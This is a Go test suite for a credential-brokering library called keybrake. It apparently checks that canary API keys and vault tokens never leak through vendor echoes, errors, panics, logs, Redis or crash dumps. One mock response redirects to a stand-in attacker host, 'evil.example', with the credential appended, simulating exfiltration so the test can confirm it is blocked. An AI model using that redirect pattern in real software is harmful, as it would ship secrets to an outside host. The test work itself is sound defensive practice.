package keybrake_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/ed25519"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/gob"
	"encoding/hex"
	"encoding/xml"
	"errors"
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"io"
	"log"
	"log/slog"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httptrace"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"regexp"
	"runtime"
	"runtime/debug"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/redis/go-redis/v9"

	"github.com/keybrake/keybrake-go"
	"github.com/keybrake/keybrake-go/audit"
	"github.com/keybrake/keybrake-go/credentials"
	"github.com/keybrake/keybrake-go/credentials/doppler"
	"github.com/keybrake/keybrake-go/credentials/hashivault"
	"github.com/keybrake/keybrake-go/credentials/onepassword"
	"github.com/keybrake/keybrake-go/internal/redistest"
	"github.com/keybrake/keybrake-go/keybraketest"
	"github.com/keybrake/keybrake-go/ledger/redisledger"
	"github.com/keybrake/keybrake-go/policy"
	"github.com/keybrake/keybrake-go/vendors"
	"github.com/keybrake/keybrake-go/vendors/kbresend"
	"github.com/keybrake/keybrake-go/vendors/kbstripe"
	"github.com/keybrake/keybrake-go/vendors/kbtwilio"
	"github.com/keybrake/keybrake-go/vendors/rules"
)

// The canaries: credentials of every form that a vendor takes, and the brake's own keys.
const (
	stripeCanary  = "rk_test_51Hcanary4of3stripe2never1shown"
	twilioKeySid  = "SK89abcdef0123456789abcdef01234567"
	twilioCanary  = "9f8e7d6c5b4a39281706f5e4d3c2b1a0"
	resendCanary  = "re_Canary4of_Resend3Never2Shown1"
	acmeClient    = "cl+Canary/One~of^Acme8"
	acmeCanary    = `ap"Canary\Two%of&Acme<9`
	aDigestKey    = "digest-canary-of-32-bytes-exactly"
	theStoreToken = "hvs.CanaryOfTheStoresOwnToken42"
)

const acmeRules = `vendor: acme
hosts: [api.acme.example]
credential:
  parts:
    - {header: Acme-Client, pattern: '.+'}
    - {header: Acme-Key, pattern: '.+'}
operations:
  - {name: acme.letters.list, method: GET, path: /letters, class: read}
  - {name: acme.letters.send, method: POST, path: /letters, class: free, body: json}
`

// An echo is a vendor, whatever vendor it is asked to be: a TLS server that answers in one manner, and knows which
// credential came.
type echo struct {
	server *httptest.Server

	mu     sync.Mutex
	manner func(w http.ResponseWriter, r *http.Request, got string)
}

func startEcho(t testing.TB) *echo {
	t.Helper()
	e := &echo{}
	e.server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body)
		got := r.Header.Get("Authorization")
		for _, name := range []string{"Acme-Client", "Acme-Key"} {
			if v := r.Header.Get(name); v != "" {
				got += v + "\n"
			}
		}
		e.mu.Lock()
		manner := e.manner
		e.mu.Unlock()
		manner(w, r, got)
	}))
	e.server.Config.ErrorLog = log.New(io.Discard, "", 0)
	e.server.TLS = &tls.Config{Certificates: []tls.Certificate{certificateFor(t, "api.stripe.com", "api.twilio.com", "api.resend.com", "api.acme.example")}}
	e.server.StartTLS()
	t.Cleanup(e.server.Close)
	return e
}

func (e *echo) answer(manner func(w http.ResponseWriter, r *http.Request, got string)) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.manner = manner
}

// transport reaches e whatever host is meant.
func (e *echo) transport(t testing.TB) *http.Transport {
	roots := x509.NewCertPool()
	roots.AddCert(e.server.Certificate())
	base := &http.Transport{
		DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
			return (&net.Dialer{}).DialContext(ctx, network, e.server.Listener.Addr().String())
		},
		TLSClientConfig: &tls.Config{RootCAs: roots},
	}
	t.Cleanup(base.CloseIdleConnections)
	return base
}

// A cage is a brake over an echo, with canaries everywhere and everything that comes out kept.
type cage struct {
	*keybrake.Brake
	*haul
	echo    *echo
	config  keybrake.Config
	key     keybrake.Key
	private ed25519.PrivateKey
	source  *switched
}

func newCage(t testing.TB, change func(*keybrake.Config)) *cage {
	t.Helper()
	acme, err := rules.Parse("acme.yaml", []byte(acmeRules))
	if err != nil {
		t.Fatal(err)
	}
	_, private, err := ed25519.GenerateKey(nil)
	if err != nil {
		t.Fatal(err)
	}
	issuer, err := keybrake.IssuerFrom(private)
	if err != nil {
		t.Fatal(err)
	}
	c := &cage{haul: &haul{}, echo: startEcho(t), private: private}
	c.source = &switched{Source: credentials.Static(map[string]string{
		"stripe": stripeCanary, "twilio": twilioAccount + ":" + twilioKeySid + ":" + twilioCanary, "resend": resendCanary, "acme": acmeClient + ":" + acmeCanary,
	})}
	handler := &slog.HandlerOptions{Level: slog.LevelDebug, AddSource: true}
	w := newWorld(t, func(k *keybrake.Config) {
		k.Issuer, k.Credentials, k.Base, k.DigestKey, k.MaxReply = issuer, c.source, c.echo.transport(t), []byte(aDigestKey), 256<<10
		k.Vendors = []vendors.Vendor{kbstripe.New(nil), kbtwilio.New(nil), kbresend.New(nil), acme}
		k.Audit = audit.Tee(audit.JSON(c.at("JSON audit")), audit.Slog(slog.New(slog.NewTextHandler(c.at("slog audit"), handler))))
		k.Log = slog.New(slog.NewJSONHandler(c.at("log"), handler))
		k.Stamp, k.InsecureResend = true, time.Minute
		if change != nil {
			change(k)
		}
		c.config = *k
	})
	c.Brake = w.Brake
	p := policy.Policy{
		Allow:          []policy.Rule{{Operation: "stripe.*"}, {Operation: "twilio.*", Ceiling: policy.USD("1")}, {Operation: "resend.*"}, {Operation: "acme.*"}},
		Budgets:        []policy.Budget{policy.Lifetime(policy.USD("100000"))},
		CancelOnRevoke: true,
	}
	g := grant("run_1", p)
	g.Credentials = map[string]string{"stripe": "stripe", "twilio": "twilio", "resend": "resend", "acme": "acme"}
	if c.key, err = c.Issue(t.Context(), g); err != nil {
		t.Fatal(err)
	}
	return c
}

// wantNothing reports what of the canaries has come out, and vault keys anywhere but in the caller's own request.
func (c *cage) wantNothing(t *testing.T, more ...string) {
	t.Helper()
	c.wantNone(t, []string{stripeCanary, twilioCanary, resendCanary, acmeClient, acmeCanary, aDigestKey, theStoreToken, string(c.private.Seed())}, "")
	c.wantNone(t, append(more, c.key.Token()), "reply's request")
}

// calls are one call or two for each vendor.
func (c *cage) calls(t testing.TB) map[string]*http.Request {
	text := request(t, "POST", messagesURL, "", formType, "To=%2B14155550100&From=%2B14155550101&Body=hi")
	text.SetBasicAuth(twilioAccount, c.key.Token())
	letter := request(t, "POST", "https://api.acme.example/letters", "", "application/json", `{"to":"x"}`)
	letter.Header.Del("Authorization")
	letter.Header.Set("Acme-Client", c.key.Token())
	intent := request(t, "POST", intentsURL, c.key.Token(), formType, "amount=100&currency=usd")
	intent.Header.Set("Idempotency-Key", "key-of-the-agent")
	return map[string]*http.Request{
		"a list":    request(t, "GET", chargesURL, c.key.Token(), "", ""),
		"letters":   request(t, "GET", "https://api.acme.example/letters", c.key.Token(), "", ""),
		"a letter":  letter,
		"an intent": intent,
		"a text":    text,
		"a mail":    request(t, "POST", emailsURL, c.key.Token(), "application/json", `{"from":"a@acme.com","to":"b@acme.com","subject":"s","text":"t"}`),
	}
}

// everything makes all calls, in every way in which an agent can, and keeps what comes back.
func (c *cage) everything(t testing.TB, how string, base http.RoundTripper) {
	t.Helper()
	for name, req := range c.calls(t) {
		rt := c.Transport(base)
		rt.DenyAsError = name == "a mail"
		c.traced(t, how+", "+name, rt, req)
	}
}

// traced is call with every hook of the caller's httptrace set.
func (c *cage) traced(t testing.TB, name string, rt http.RoundTripper, req *http.Request) {
	t.Helper()
	trace := &httptrace.ClientTrace{}
	hooks := reflect.ValueOf(trace).Elem()
	for i := range hooks.NumField() {
		hook := hooks.Type().Field(i)
		hooks.Field(i).Set(reflect.MakeFunc(hook.Type, func(args []reflect.Value) []reflect.Value {
			for _, a := range args {
				fmt.Fprintf(c.at("hook "+hook.Name), "%v %+v\n", a, a)
			}
			return slices.Repeat([]reflect.Value{reflect.Zero(reflect.TypeFor[error]())}, hook.Type.NumOut())
		}))
	}
	c.call(t, name, rt, req.WithContext(httptrace.WithClientTrace(req.Context(), trace)))
}

// whole is a chain of errors with all its branches.
func whole(err error) (all []error) {
	if err == nil {
		return nil
	}
	all = []error{err}
	switch e := err.(type) {
	case interface{ Unwrap() error }:
		all = append(all, whole(e.Unwrap())...)
	case interface{ Unwrap() []error }:
		for _, one := range e.Unwrap() {
			all = append(all, whole(one)...)
		}
	}
	return all
}

// encode keeps v as fmt under more verbs, XML, gob and the default logger show it.
func (h *haul) encode(place string, v any) {
	h.print(place, v)
	to := h.at(place)
	fmt.Fprintf(to, "%x\n%X\n% x\n%d\n%o\n%c\n%U\n", v, v, v, v, v, v, v)
	if text, err := xml.Marshal(v); err == nil {
		_, _ = to.Write(text)
	}
	var packed bytes.Buffer
	if gob.NewEncoder(&packed).Encode(v) == nil {
		_, _ = to.Write(packed.Bytes())
	}
	log.New(to, "", 0).Print(v)
	if err, ok := v.(error); ok {
		for _, e := range whole(err) {
			h.print(place, e)
		}
	}
}

// The manners in which a vendor gives the credential back. page is the credential in every writing.
var manners = map[string]func(w http.ResponseWriter, page string){
	"a refusal": func(w http.ResponseWriter, page string) {
		w.WriteHeader(401)
		fmt.Fprint(w, page)
	},
	"a page of a gateway": func(w http.ResponseWriter, page string) {
		w.WriteHeader(502)
		fmt.Fprint(w, "<html>"+page)
	},
	"headers": func(w http.ResponseWriter, page string) {
		for i, line := range strings.Split(page, "\n") {
			line = strings.Map(func(r rune) rune {
				if r < ' ' || r > '~' {
					return ' '
				}
				return r
			}, line)
			w.Header().Add("X-Echo", line)
			w.Header().Set(fmt.Sprintf("X-Echo-%d", i), line)
			w.Header().Set("Request-Id", line[:min(len(line), 100)])
			if strings.Trim(strings.ToLower(line), "abcdefghijklmnopqrstuvwxyz0123456789_-") == "" && line != "" {
				w.Header().Set(line, "1")
			}
		}
		w.WriteHeader(400)
	},
	"a redirect": func(w http.ResponseWriter, page string) {
		first, _, _ := strings.Cut(page, "\n")
		w.Header().Set("Location", "https://evil.example/?k="+first)
		w.WriteHeader(307)
	},
	"a stream, byte by byte": func(w http.ResponseWriter, page string) {
		for i := range len(page) {
			_, _ = w.Write([]byte{page[i]})
			if i%7 == 0 {
				_ = http.NewResponseController(w).Flush()
			}
		}
	},
	"trailers": func(w http.ResponseWriter, page string) {
		first, _, _ := strings.Cut(page, "\n")
		w.Header().Set("Trailer", "X-Echo")
		fmt.Fprint(w, "{}")
		w.Header().Set("X-Echo", first)
	},
	"early hints": func(w http.ResponseWriter, page string) {
		first, _, _ := strings.Cut(page, "\n")
		w.Header().Set("Link", first)
		w.WriteHeader(103)
		w.WriteHeader(200)
		fmt.Fprint(w, "{}")
	},
	"a stream that breaks off in the middle": func(w http.ResponseWriter, page string) {
		first, _, _ := strings.Cut(page, "\n")
		_, _ = w.Write([]byte(page + first[:len(first)-3]))
		_ = http.NewResponseController(w).Flush()
		panic(http.ErrAbortHandler)
	},
	"a reply that is longer than may be": func(w http.ResponseWriter, page string) {
		const most = 256 << 10
		_, _ = w.Write([]byte(strings.Repeat(" ", most-20) + page))
	},
	"gzip that was asked for": func(w http.ResponseWriter, page string) { zip(w, "gzip", page) },
	"gzip under another name": func(w http.ResponseWriter, page string) { zip(w, "x-gzip", page) },
	"an encoding of nobody's": func(w http.ResponseWriter, page string) {
		w.Header().Set("Content-Encoding", "x-plain")
		fmt.Fprint(w, page)
	},
}

func zip(w http.ResponseWriter, encoding, page string) {
	w.Header().Set("Content-Encoding", encoding)
	z := gzip.NewWriter(w)
	fmt.Fprint(z, page)
	_ = z.Close()
}

// pageOf is what a vendor got, in every writing, and each of its parts.
func pageOf(got string) string {
	parts := []string{strings.TrimSpace(got)}
	for _, part := range strings.Split(strings.TrimSpace(got), "\n") {
		scheme, rest, ok := strings.Cut(part, " ")
		if !ok {
			rest = part
		}
		parts = append(parts, rest)
		if plain, err := base64.StdEncoding.DecodeString(rest); err == nil && scheme == "Basic" {
			_, password, _ := strings.Cut(string(plain), ":")
			parts = append(parts, string(plain), password)
		}
	}
	parts[0] = parts[1] // a line's first is one that fits into a header
	var page strings.Builder
	for _, part := range parts {
		for _, how := range slices.Sorted(maps.Keys(keybrake.Writings)) {
			page.WriteString(strings.ReplaceAll(keybrake.Writings[how](part), "\r\n", " ") + "\n")
		}
	}
	return page.String()
}

// A vendor that gives its credential back, in whatever manner and writing, gives it to nobody.
func TestAVendorThatEchoesTheCredential(t *testing.T) {
	c := newCage(t, nil)
	for how, manner := range manners {
		c.echo.answer(func(w http.ResponseWriter, _ *http.Request, got string) { manner(w, pageOf(got)) })
		c.everything(t, how, nil)
	}
	// The test sees what it must: without the brake it is all there.
	open := &haul{}
	c.echo.answer(func(w http.ResponseWriter, _ *http.Request, got string) { manners["a refusal"](w, pageOf(got)) })
	bare := request(t, "GET", chargesURL, stripeCanary, "", "")
	bare.Header.Set("Acme-Key", acmeCanary)
	open.call(t, "bare", c.echo.transport(t), bare)
	for _, secret := range []string{stripeCanary, acmeCanary} {
		for _, form := range []string{secret, hex.EncodeToString([]byte(secret)), keybrake.Writings["HTML, hex"](secret), keybrake.Writings["JSON, every byte"](secret)} {
			if !strings.Contains(open.places["body of bare"].String(), form) {
				t.Errorf("the vendor does not echo %q", form)
			}
		}
	}
	if n := len(c.places); n < 150 {
		t.Fatalf("only %d places were looked at", n)
	}
	c.wantNothing(t)
}

// What a secret store or its library says in an error may be the secret, or the token by which the store is read. It
// reaches nobody: no agent, no log, no record, no error of the operator's calls.
func TestWhatASecretStoreSaysReachesNobody(t *testing.T) {
	said := strings.Join([]string{stripeCanary, twilioCanary, twilioAccount + ":" + twilioCanary, resendCanary, acmeCanary, theStoreToken}, " ")
	c := newCage(t, func(k *keybrake.Config) { k.Credentials = secretiveCheck{k.Credentials} })
	c.echo.answer(func(w http.ResponseWriter, _ *http.Request, _ string) { w.WriteHeader(401) }) // which drops the credential
	for name, failure := range map[string]error{
		"an error":               errors.New(said),
		"a wrapped unknown":      fmt.Errorf("%w: %s", credentials.ErrUnknown, said),
		"errors joined":          errors.Join(errors.New(said), fmt.Errorf("%s: %w", said, context.DeadlineExceeded)),
		"an error of a network":  &net.OpError{Op: said, Err: errors.New(said)},
		"a fault and what it is": &credentials.Fault{Ref: "stripe", Why: "answered 500", Err: errors.New(said)},
		"a wrapped fault":        fmt.Errorf("%s: %w", said, &credentials.Fault{Ref: "stripe", Why: "answered 500"}),
	} {
		c.source.down.Store(nil)
		c.everything(t, "dropping for "+name, nil)
		c.source.down.Store(&failure)
		c.everything(t, name, nil)
		g := grant("run_2", policy.Policy{Allow: []policy.Rule{{Operation: "stripe.charges.list"}}})
		g.Credentials = map[string]string{"stripe": "stripe"}
		_, issueErr := c.Issue(t.Context(), g)
		_, newErr := keybrake.New(t.Context(), c.config)
		r, err := c.Reconciler(keybrake.ReconcilerConfig{Tenants: []string{"acme"}, Person: func(_ context.Context, u keybrake.Unresolved) { c.encode("a person", u) }})
		if err != nil {
			t.Fatal(err)
		}
		progress, passErr := r.Pass(t.Context())
		c.encode("progress", progress)
		report, driftErr := r.Drift(t.Context(), time.Now().Add(-48*time.Hour), keybrake.DriftAccount{Vendor: "stripe", Credential: "stripe"}, func(func(audit.Record, error) bool) {})
		c.encode("drift", report)
		if newErr == nil {
			t.Errorf("%s: a brake was made with a source that fails", name)
		}
		for _, err := range []error{issueErr, newErr, passErr, driftErr} {
			c.encode("error for the operator", err)
		}
		if name == "a fault and what it is" && !strings.Contains(fmt.Sprint(newErr), "answered 500") {
			t.Errorf("what a source may say is lost: %v", newErr)
		}
	}
	c.source.down.Store(nil)
	if said := c.places["log"].String(); !strings.Contains(said, "no credential") {
		t.Errorf("no call has missed its credential: %.2000s", said)
	}
	c.wantNothing(t)
}

// A secretiveCheck is a source whose Check asks for one credential.
type secretiveCheck struct{ credentials.Source }

func (s secretiveCheck) Check(ctx context.Context) error {
	_, err := s.Get(ctx, "stripe")
	return err
}

// A source or an adapter that panics, with a secret in its hands, is an error without one.
func TestAPanicWithASecretIsContained(t *testing.T) {
	c := newCage(t, nil)
	c.echo.answer(func(w http.ResponseWriter, _ *http.Request, _ string) { w.WriteHeader(401) })
	c.everything(t, "dropping", nil)
	c.source.Source = credentials.SourceFunc(func(context.Context, string) (credentials.Credential, error) { panic(stripeCanary) })
	func() {
		defer func() {
			if r := recover(); r != nil {
				c.encode("panic", r)
				t.Errorf("the source's panic reaches the agent: %v", r)
			}
		}()
		c.everything(t, "a source that panics", nil)
	}()
	c.source.Source = credentials.Static(map[string]string{"stripe": stripeCanary, "acme": acmeCanary})
	tells := newCage(t, func(k *keybrake.Config) {
		for i := range k.Vendors {
			place := k.Vendors[i].Place
			calls := 0
			k.Vendors[i].Place = func(parts []string) (vendors.Placement, error) {
				if calls++; calls > 1 {
					return vendors.Placement{}, fmt.Errorf("no credential: %q", parts)
				}
				return place(parts)
			}
		}
	})
	tells.everything(t, "an adapter that quotes what it cannot read", nil)
	c.wantNothing(t)
	tells.wantNothing(t)
}

// holdsNothing are the exported types that no secret can come into: what a user writes, what the brake counts, and what is
// told in numbers and names. All others are printed by the test below.
var holdsNothing = map[string]string{
	"policy.": "a policy is what a user writes, and stands in every vault key in the clear", "cost.": "amounts", "reason.": "codes",
	"ledger.": "names, amounts and sealed text; what a ledger keeps is searched by the tests of what stands in Redis", "vendortest.": "a kit for tests", "ledgertest.": "a kit for tests", "audittest.": "a kit for tests",
	"kbresend.Options": "settings", "kbstripe.Options": "settings", "kbtwilio.": "prices and settings",
	"vendors.Table": "rows", "vendors.Vendor": "rows and functions", "vendors.Operation": "a row", "vendors.Schema": "names", "vendors.Bound": "amounts", "vendors.Probe": "a path", "vendors.Settlement": "amounts",
	"vendors.Exam": "the replies that were cleaned, below", "vendors.Diagnosis": "an adapter's words, which are cleaned where they become a keybrake.Finding",
	"vendors.Finding": "amounts", "vendors.Day": "the replies that were cleaned, below", "vendors.Usage": "amounts", "vendors.Case": "a call, which adapters alone see",
	"vendors.Param": "a word of the agent's", "vendors.Refusal": "is searched as the reply that it becomes",
	"vendors.Reply": "is cleaned before an adapter sees it, and never leaves one", "vendors.Response": "is a refusal that was written", "vendors.Call": "the vault key's own call, without its key",
	"audit.": "records are searched as the sinks write them", "memory.Ledger": "what ledgers keep is searched in Redis", "redisledger.": "as above",
	"credentials.CacheOptions": "settings", "hashivault.Options": "settings", "hashivault.Secret": "where a secret stands", "doppler.Options": "settings",
	"onepassword.AccountOptions": "settings", "onepassword.ConnectOptions": "settings", "onepassword.Item": "where a secret stands", "keybrake.Narrowing": "what a child key may do",
	"keybrake.Finding":    "says of a credential what it may do, from replies that were cleaned",
	"keybrake.Resolution": "what a person says", "keybrake.Call": "names of the user's choice", "keybrake.Selector": "a name", "keybrake.Report": "numbers and names",
	"keybrake.RunDrift": "part of a DriftReport", "keybrake.DriftLine": "part of a DriftReport", "keybrake.DriftAccount": "names of the user's choice",
	"keybraketest.Options": "settings of a test, which hold the test's own credentials",
	"backtest.":            "it sees records, which the leak tests search, and what a user writes",
	"crosscheck.":          "it sees records and reservations, which the leak tests search",
}

// Every exported type of every package, in every print and encoding, shows no secret. A new type fails here until it is
// printed, or somebody has said why no secret comes into it.
func TestNoExportedTypeShowsASecret(t *testing.T) {
	c := newCage(t, func(k *keybrake.Config) { // without the catalogues, which are long and hold nothing
		k.Base = roundTripper(k.Base.RoundTrip) // encoding/json would read net/http's own fields while they are in use
		used := regexp.MustCompile(`stripe\.(charges|payment_intents|ephemeral)|twilio\.messages|resend\.emails|acme`)
		for i, v := range k.Vendors {
			k.Vendors[i].Operations = slices.DeleteFunc(slices.Clone(v.Operations), func(op vendors.Operation) bool { return !used.MatchString(op.Name) })
		}
	})
	bench := keybraketest.New(t, everything(), &keybraketest.Options{Credentials: map[string]string{"stripe": stripeCanary}})
	values := func() map[string]any {
		fetched, _ := c.source.Get(t.Context(), "stripe")
		cache := credentials.NewCache(c.source, time.Hour, nil)
		_, _ = cache.Get(t.Context(), "stripe")
		placed, err := kbstripe.New(nil).Place([]string{stripeCanary})
		if err != nil {
			t.Error(err)
		}
		r, err := c.Reconciler(keybrake.ReconcilerConfig{Tenants: []string{"acme"}})
		if err != nil {
			t.Error(err)
		}
		alerts, err := c.Alerter(keybrake.AlerterConfig{Tenants: []string{"acme"}, Notifier: audit.NotifySlog(nil)})
		if err != nil {
			t.Error(err)
		}
		report, _ := r.Drift(t.Context(), time.Now().Add(-48*time.Hour), keybrake.DriftAccount{Vendor: "stripe", Credential: "stripe"}, func(func(audit.Record, error) bool) {})
		rt := c.Transport(nil)
		rt.DenyAsError = true
		_, denied := rt.RoundTrip(request(t, "POST", "https://api.stripe.com/v1/ephemeral_keys", c.key.Token(), formType, "customer=cus_1"))
		d, _ := keybrake.DenialFrom(denied)
		balance, _ := c.Balance(t.Context(), c.key.Token())
		findings, _ := c.Doctor(t.Context(), grant("run_1", everything()))
		return map[string]any{
			"keybrake.Brake": c.Brake, "keybrake.Brake, value": *c.Brake, "keybrake.Transport": c.Transport(nil), "keybrake.Transport, value": *c.Transport(nil), "http.Client": c.Client(),
			"keybrake.Config": c.config, "keybrake.Config, address": &c.config, "keybrake.Issuer": c.config.Issuer, "keybrake.Issuer, value": *c.config.Issuer,
			"keybrake.Key": c.key, "keybrake.Key, address": &c.key, "keybrake.Key in a struct": struct{ key keybrake.Key }{c.key}, "keybrake.Grant": grant("run_1", everything()),
			"keybrake.Denial": d, "keybrake.Denial, as an error": denied, "keybrake.Unresolved": keybrake.Unresolved{}, "keybrake.Progress": keybrake.Progress{},
			"keybrake.Reconciler": r, "keybrake.ReconcilerConfig": keybrake.ReconcilerConfig{}, "keybrake.Alerter": alerts, "keybrake.AlerterConfig": keybrake.AlerterConfig{}, "keybrake.Delivery": keybrake.Delivery{}, "keybrake.DriftReport": report, "keybrake.Finding": findings, "balance": balance,
			"keybrake.Secret": c.config.DigestKey, "keybrake.Secret in a struct": struct{ S keybrake.Secret }{c.config.DigestKey},
			"credentials.Cache": cache, "credentials.Cache, value": struct{ c *credentials.Cache }{cache}, "credentials.Credential": fetched, "credentials.Credential in a struct": struct{ c credentials.Credential }{fetched},
			"credentials.Fault": &credentials.Fault{Ref: "stripe", Why: "down"}, "credentials.Env": credentials.Env{"stripe": "X"}, "a static source": credentials.Static(map[string]string{"stripe": stripeCanary}),
			"vendors.Placement": placed, "vendors.Placement, address": &placed, "vendors.Placement in a struct": struct{ P vendors.Placement }{placed},
			"hashivault.Source": hashivault.New("https://vault.example", hashivault.Token(theStoreToken), nil, nil), "hashivault.Auth": hashivault.Token(theStoreToken), "hashivault.Auth of a role": hashivault.AppRole("role", theStoreToken),
			"doppler.Source": doppler.New(theStoreToken, nil, nil), "onepassword.Source": onepassword.Connect("https://connect.example", theStoreToken, nil, nil), "onepassword.Source of an account": onepassword.ServiceAccount(theStoreToken, nil, nil),
			"keybraketest.Bench": bench, "keybraketest.Bench, value": *bench,
		}
	}
	show := func(when string) {
		for name, v := range values() {
			if raceDetector && lives.MatchString(name) {
				continue // what fmt reads of it without its locks, other goroutines have written; make check prints them
			}
			c.encode(name+" "+when, v)
		}
	}
	show("before")
	entered, leave := make(chan struct{}), make(chan struct{})
	c.echo.answer(func(w http.ResponseWriter, _ *http.Request, _ string) {
		close(entered)
		<-leave
		w.WriteHeader(404)
	})
	var ended sync.WaitGroup
	ended.Go(func() { c.traced(t, "a call", c.Transport(nil), c.calls(t)["a text"]) })
	<-entered
	c.echo.answer(func(w http.ResponseWriter, _ *http.Request, _ string) { w.WriteHeader(404) })
	show("during a call")
	stacks := make([]byte, 8<<20)
	stacks = stacks[:runtime.Stack(stacks, true)]
	fmt.Fprintf(c.at("stacks"), "%s\n%s", stacks, debug.Stack())
	if !bytes.Contains(stacks, []byte("RoundTrip")) {
		t.Error("no call is in the dump")
	}
	close(leave)
	ended.Wait()
	show("after")

	shown := values()
	for _, name := range exportedStructs(t) {
		pkg, _, _ := strings.Cut(name, ".")
		if shown[name] == nil && holdsNothing[name] == "" && holdsNothing[pkg+"."] == "" {
			t.Errorf("%s is a type that no test prints; print it here, or say why no secret comes into it", name)
		}
	}
	c.wantNothing(t, bench.Key.Token())
}

// lives matches the values that goroutines of a brake change.
var lives = regexp.MustCompile(`^(keybrake\.(Brake|Transport|Config|Reconciler|Alerter)|http\.Client|credentials\.Cache|keybraketest\.Bench)`)

// exportedStructs are the exported structs, and other types with fields or elements, of the packages that users import,
// read in their source.
func exportedStructs(t *testing.T) (names []string) {
	t.Helper()
	files := token.NewFileSet()
	err := filepath.WalkDir(".", func(path string, e os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if e.IsDir() {
			_, elsewhere := os.Stat(filepath.Join(path, "go.mod"))
			if path != "." && (elsewhere == nil || strings.HasPrefix(e.Name(), ".") || slices.Contains([]string{"internal", "examples", "testdata", "cmd"}, e.Name())) {
				return filepath.SkipDir
			}
			return nil
		}
		if !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return nil
		}
		f, err := parser.ParseFile(files, path, nil, parser.SkipObjectResolution)
		if err != nil {
			return err
		}
		ast.Inspect(f, func(n ast.Node) bool {
			s, ok := n.(*ast.TypeSpec)
			if !ok || !s.Name.IsExported() {
				return true
			}
			if _, isStruct := s.Type.(*ast.StructType); isStruct {
				names = append(names, f.Name.Name+"."+s.Name.Name)
			}
			return true
		})
		return nil
	})
	if err != nil || len(names) < 60 {
		t.Fatalf("%d exported structs: %v", len(names), err)
	}
	return names
}

// What stands in Redis is read by whoever backs it up: no credential, no vault key, nothing to make one with.
func TestWhatStandsInRedisHoldsNoSecret(t *testing.T) {
	rdb := redis.NewClient(&redis.Options{Addr: redistest.Start(t)})
	t.Cleanup(func() { _ = rdb.Close() })
	c := newCage(t, func(k *keybrake.Config) { k.Ledger = redisledger.New(rdb, nil) })
	for _, status := range []int{200, 402, 500} {
		c.echo.answer(func(w http.ResponseWriter, _ *http.Request, got string) {
			w.WriteHeader(status)
			fmt.Fprintf(w, `{"id":%q,"object":"payment_intent","sid":%q,"error":{"message":%q}}`, got, got, got)
		})
		c.everything(t, fmt.Sprint(status), nil)
	}
	p := everything()
	p.Repeat = policy.Once(time.Minute)
	key, err := c.Issue(t.Context(), grant("run_2", p))
	if err != nil {
		t.Fatal(err)
	}
	c.echo.answer(func(w http.ResponseWriter, _ *http.Request, got string) { fmt.Fprintf(w, `{"id":%q}`, got) })
	for range 2 {
		c.call(t, "a repeated mail", c.Transport(nil), request(t, "POST", emailsURL, key.Token(), "application/json", `{"from":"a@acme.com","to":"b@acme.com","subject":"s","text":"t"}`))
	}
	rows := 0
	for keys := rdb.Scan(t.Context(), 0, "*", 100).Iterator(); keys.Next(t.Context()); {
		rows++
		name := keys.Val()
		text := dump(t, rdb, name)
		fmt.Fprintf(c.at("Redis"), "%s\n%s\n", name, text)
	}
	if rows < 5 || !strings.Contains(c.places["Redis"].String(), "stripe.payment_intents.create") {
		t.Errorf("%d keys are in Redis, and none holds the calls:\n%.2000s", rows, c.places["Redis"])
	}
	c.wantNothing(t, key.Token())
}

// dump is what a key of Redis holds, as bytes.
func dump(t *testing.T, rdb *redis.Client, key string) string {
	t.Helper()
	ctx := t.Context()
	var v any
	var err error
	switch kind := rdb.Type(ctx, key).Val(); kind {
	case "string":
		v, err = rdb.Get(ctx, key).Result()
	case "hash":
		v, err = rdb.HGetAll(ctx, key).Result()
	case "list":
		v, err = rdb.LRange(ctx, key, 0, -1).Result()
	case "set":
		v, err = rdb.SMembers(ctx, key).Result()
	case "zset":
		v, err = rdb.ZRangeWithScores(ctx, key, 0, -1).Result()
	case "stream":
		v, err = rdb.XRange(ctx, key, "-", "+").Result()
	default:
		t.Fatalf("a key of type %s", kind)
	}
	if err != nil {
		t.Fatal(err)
	}
	return fmt.Sprint(v)
}

// A program that dies in the middle of a call, and prints all that Go prints of it, shows no secret. What it dies of holds
// the brake, the transport, the key and the caller's request.
func TestAProgramThatDiesInACallShowsNoSecret(t *testing.T) {
	if os.Getenv("KEYBRAKE_TEST_DIES") != "" {
		die(t)
		return
	}
	for _, godebug := range []string{"", "http2debug=2"} {
		cmd := exec.CommandContext(t.Context(), os.Args[0], "-test.run=^"+t.Name()+"$", "-test.v")
		cmd.Env = append(os.Environ(), "KEYBRAKE_TEST_DIES=1", "GOTRACEBACK=system", "GODEBUG="+godebug)
		out, err := cmd.CombinedOutput()
		if err == nil || !strings.Contains(string(out), map[string]string{"": "panic: dying of", "http2debug=2": "GODEBUG has http2debug"}[godebug]) {
			t.Fatalf("GODEBUG=%s: %v:\n%s", godebug, err, out)
		}
		h := &haul{}
		_, _ = h.at("output").Write(out)
		h.wantNone(t, []string{stripeCanary, twilioCanary, resendCanary, acmeClient, acmeCanary, aDigestKey}, "")
	}
}

func die(t *testing.T) {
	c := newCage(t, nil)
	entered := make(chan struct{})
	c.echo.answer(func(http.ResponseWriter, *http.Request, string) {
		close(entered)
		select {}
	})
	req := c.calls(t)["a text"]
	go func() { _, _ = c.Transport(nil).RoundTrip(req) }()
	<-entered
	go func() { // in the test's own goroutine its cleanup would come first
		panic(fmt.Sprintf("dying of %v %+v %#v %+v %+v", c.Brake, *c.Brake, *c.Transport(nil), c.config.DigestKey, c.key))
	}()
	select {}
}
